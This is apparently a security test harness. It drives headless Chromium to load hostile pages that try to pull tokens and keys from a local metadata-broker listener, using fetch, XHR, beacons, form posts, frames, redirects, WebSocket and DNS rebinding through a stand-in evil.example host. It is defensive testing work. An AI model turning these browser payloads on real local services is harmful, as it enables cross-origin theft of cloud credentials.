"""Lets a real browser open hostile pages that want something of the broker's loopback listener.

usage: browser.py CHROMIUM PORT FOLDER

The listener is at 127.0.0.1:PORT. The browser is told that the name evil.example, and the address 127.0.0.1 too, lead to
127.0.0.2. There this program serves the pages, on a port of its own and on PORT. What comes to PORT and is no page of ours goes to
the listener byte for byte, and what it answers is seen. A page of http://evil.example:PORT is thus a page of the listener's own
origin: that is what DNS rebinding comes to.

Prints one line of JSON: `exchanges`, what the browser sent to the listener and how that was answered, and `pages`, what the scripts
of the pages saw.
"""

import asyncio
import json
import os
import signal
import subprocess
import sys

CHROMIUM, PORT, FOLDER = sys.argv[1], int(sys.argv[2]), sys.argv[3]
HERE = "127.0.0.2"
PATIENCE = 27  # seconds for everything, far above what it takes
exchanges, pages = [], {}

SCRIPT = """
const version = "?version=2025-08-26", form = "application/x-www-form-urlencoded";
const grant = new URLSearchParams({
  grant_type: "urn:ibm:params:oauth:grant-type:cr-token", cr_token: "x", profile_name: "reports"
});
const flavor = {"Metadata-Flavor": "ibm"};
const seen = {};
const soon = promise => Promise.race([promise, new Promise(done => setTimeout(done, 3000, "no end"))]);
async function attempt(name, body) {
  try { seen[name] = String(await soon(body())); } catch (error) { seen[name] = "error " + error.name; }
}
async function told(answer) { return answer.type + " " + answer.status + " " + await answer.text(); }
const get = (path, options) => fetch(target + path, options).then(told);
function element(kind, members) {
  return new Promise(done => {
    const made = Object.assign(document.createElement(kind), members);
    made.onload = () => done("load");
    made.onerror = () => done("fails");
    document.body.append(made);
  });
}
function submit(frame, enctype) {
  return new Promise(done => {
    const made = Object.assign(document.createElement("form"), {method: "POST", enctype, action: target + "/identity/token", target: frame});
    for (const [name, value] of grant) made.append(Object.assign(document.createElement("input"), {name, value}));
    const inner = Object.assign(document.createElement("iframe"), {name: frame});
    document.body.append(inner, made);
    inner.onload = () => { try { done(inner.contentDocument.body.textContent); } catch (error) { done("error " + error.name); } };
    made.submit();
  });
}
async function attack() {
  for (const mode of ["cors", "no-cors", "same-origin"]) {
    await attempt(mode + " GET keys", () => get("/identity/keys", {mode}));
    await attempt(mode + " GET, no referrer", () => get("/identity/keys", {mode, referrerPolicy: "no-referrer"}));
    await attempt(mode + " GET, credentials", () => get("/metadata/v1/instance" + version, {mode, credentials: "include"}));
    await attempt(mode + " POST form", () => get("/identity/token", {mode, method: "POST", body: grant}));
    await attempt(mode + " POST text", () => get("/identity/v1/iam_tokens" + version, {mode, method: "POST", body: "{}"}));
    await attempt(mode + " HEAD", () => get("/identity/keys", {mode, method: "HEAD"}));
    await attempt(mode + " GET, keepalive", () => get("/identity/keys", {mode, keepalive: true}));
  }
  await attempt("PUT session", () => get("/identity/v1/token" + version, {method: "PUT", headers: flavor, body: "{}"}));
  await attempt("POST with bearer", () => get("/identity/v1/iam_tokens" + version, {
    method: "POST", headers: {Authorization: "Bearer x", "Content-Type": "application/json"}, body: "{}"
  }));
  await attempt("redirected GET", () => fetch("/redirect?to=" + target + "/identity/keys", {mode: "no-cors"}).then(told));
  await attempt("redirected POST", () => fetch("/redirect?to=" + target + "/identity/token", {
    mode: "no-cors", method: "POST", body: grant
  }).then(told));
  await attempt("XMLHttpRequest", () => new Promise((done, fails) => {
    const request = new XMLHttpRequest();
    request.onload = () => done(request.responseText);
    request.onerror = () => fails(new Error("network"));
    request.open("POST", target + "/identity/token");
    request.setRequestHeader("Content-Type", form);
    request.send(grant.toString());
  }));
  await attempt("beacon", async () => navigator.sendBeacon(target + "/identity/token", grant));
  await attempt("form", () => submit("one", form));
  await attempt("form of plain text", () => submit("two", "text/plain"));
  await attempt("image", () => element("img", {src: target + "/identity/keys?img"}));
  await attempt("script", () => element("script", {src: target + "/identity/keys?script"}));
  await attempt("style", () => element("link", {rel: "stylesheet", href: target + "/identity/keys?style"}));
  await attempt("frame", () => element("iframe", {src: target + "/metadata/v1/instance" + version + "&frame"}));
  await attempt("sandboxed form", () => element("iframe", {
    sandbox: "allow-scripts allow-forms",
    srcdoc: `<form method=POST action="${target}/identity/token"><input name=grant_type value=x></form><script>document.forms[0].submit()</` + "script>"
  }));
  await attempt("events", () => new Promise(done => {
    new EventSource(target + "/identity/keys?events").onerror = () => done("error");
  }));
  await attempt("socket", () => new Promise(done => {
    new WebSocket(target.replace("http", "ws") + "/identity/keys?socket").onerror = () => done("error");
  }));
  const next = await fetch("/result", {method: "POST", body: JSON.stringify(seen)}).then(answer => answer.text());
  if (next) location.href = next;
}
attack();
"""


def url(host, port):
    return f"http://{host}:{port}"


class Attack:
    """The pages, one after the other."""

    def __init__(self, port):
        self.targets = {
            # A page of elsewhere, and one of another program on this machine, both with the listener as it is called.
            url("evil.example", port): url("127.0.0.1", PORT),
            url("127.0.0.1", port): url("127.0.0.1", PORT),
            # A page that became one of the listener's origin.
            url("evil.example", PORT): url("evil.example", PORT),
        }
        self.done = asyncio.Event()

    def answer(self, origin, method, target, body):
        """Status, fields and body for what is asked of this program; `None` for what is the listener's."""
        path, _, query = target.partition("?")
        if path == "/page":
            text = f"<!doctype html><body><script>const target = {json.dumps(self.targets[origin])};{SCRIPT}</script>"
            return "200 OK", "Content-Type: text/html\r\n", text.encode()
        if path == "/redirect":
            return "307 Elsewhere", f"Location: {query.removeprefix('to=')}\r\n", b""
        if path == "/favicon.ico":
            return "404 Not Found", "", b""
        if path == "/result" and method == "POST":
            pages[origin] = json.loads(body)
            rest = [other for other in self.targets if other not in pages]
            if not rest:
                self.done.set()
            return "200 OK", "", (rest[0] + "/page" if rest else "").encode()
        return None

    async def serve(self, reader, writer):
        try:
            while message := await receive(reader):
                head, body = message
                line, fields = parsed(head)
                method, target, _ = line.split(" ")
                host = fields.get("host", "")
                ours = self.answer("http://" + host, method, target, body)
                if ours is None:
                    await pass_on(head, body, method, target, fields, writer)
                    return
                status, more, text = ours
                top = f"HTTP/1.1 {status}\r\n{more}Content-Length: {len(text)}\r\nCache-Control: no-store\r\n\r\n"
                writer.write(top.encode() + text)
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError, asyncio.CancelledError):
            pass  # the browser went away, or all is done
        finally:
            writer.close()


def parsed(head):
    lines = head.decode("latin-1").split("\r\n")
    fields = dict(line.split(": ", 1) for line in lines[1:] if ": " in line)
    return lines[0], {name.lower(): value for name, value in fields.items()}


async def receive(reader, has_body=True):
    """Head and body of a message; `None` at the end."""
    try:
        head = await reader.readuntil(b"\r\n\r\n")
    except asyncio.IncompleteReadError:
        return None
    length = int(parsed(head)[1].get("content-length", 0)) if has_body else 0
    return head, await reader.readexactly(length)


async def pass_on(head, body, method, target, fields, writer):
    there, back = await asyncio.open_connection("127.0.0.1", PORT)
    back.write(head + body)
    answer = await receive(there, has_body=method != "HEAD")
    back.close()
    if answer is None:
        return
    line, _ = parsed(answer[0])
    exchanges.append(
        {
            "method": method,
            "target": target,
            "host": fields.get("host", ""),
            "marks": sorted(name for name in fields if name in ("origin", "referer") or name.startswith("sec-")),
            "status": int(line.split(" ")[1]),
            "body": answer[1].decode(),
        }
    )
    writer.write(answer[0] + answer[1])
    await writer.drain()


async def main():
    listeners = [await asyncio.start_server(lambda r, w: attack.serve(r, w), HERE, port) for port in (0, PORT)]
    attack = Attack(listeners[0].sockets[0].getsockname()[1])
    start = next(iter(attack.targets)) + "/page"
    options = [
        "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--disable-background-networking", "--disable-breakpad", "--disable-component-update", "--disable-sync", "--disable-extensions",
        f"--user-data-dir={FOLDER}", f"--host-resolver-rules=MAP evil.example {HERE}, MAP 127.0.0.1 {HERE}",
    ]  # fmt: skip
    browser = subprocess.Popen(
        [CHROMIUM, *options, start],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
        preexec_fn=lambda: os.nice(5),  # tests that measure time run beside it
    )  # fmt: skip
    try:
        await asyncio.wait_for(attack.done.wait(), PATIENCE)
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()
    print(json.dumps({"exchanges": exchanges, "pages": pages}))


asyncio.run(main())
